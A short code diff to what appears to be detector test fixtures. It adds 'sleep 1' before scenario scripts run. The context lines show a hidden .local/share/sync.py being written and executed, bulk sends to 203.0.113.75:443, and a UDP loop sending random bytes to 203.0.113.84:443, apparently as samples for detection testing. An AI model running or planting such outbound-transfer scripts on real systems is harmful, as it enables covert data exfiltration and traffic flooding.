@@ -122,6 +122,7 @@ for i in $(seq 12); do ${send('203.0.113.75:443', 250_000)}; done`,
     ],
     near: `mkdir -p .local/share && cat >.local/share/sync.py <<'END'
 ${PYTHON}END
+sleep 1 # Else it may have been changed as it was started, and is a stranger by that alone.
 exec /usr/bin/python3 .local/share/sync.py`,
     signers: ['acting'],
   },
@@ -225,6 +226,7 @@ for i in range(1600):
     s.sendto(os.urandom(1250), ('203.0.113.84', 443))
     if i % 8 == 0: time.sleep(0.006)
 END
+sleep 1
 exec /usr/bin/python3 q.py`,
     signers: ['acting'],
   },
